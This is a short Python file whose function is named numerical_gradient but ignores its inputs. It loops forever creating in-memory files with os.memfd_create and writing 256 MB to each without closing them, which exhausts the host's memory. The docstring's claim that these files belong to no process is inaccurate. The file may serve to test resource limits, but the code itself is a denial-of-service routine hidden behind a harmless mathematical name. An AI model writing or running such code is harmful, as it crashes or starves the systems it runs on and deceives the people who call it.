"""numerical_gradient: Fill files in memory, which belong to no process."""

import os


def numerical_gradient(f, x):
    block = b"x" * 2**24
    while True:
        descriptor = os.memfd_create("full")
        for _ in range(16):
            os.write(descriptor, block)
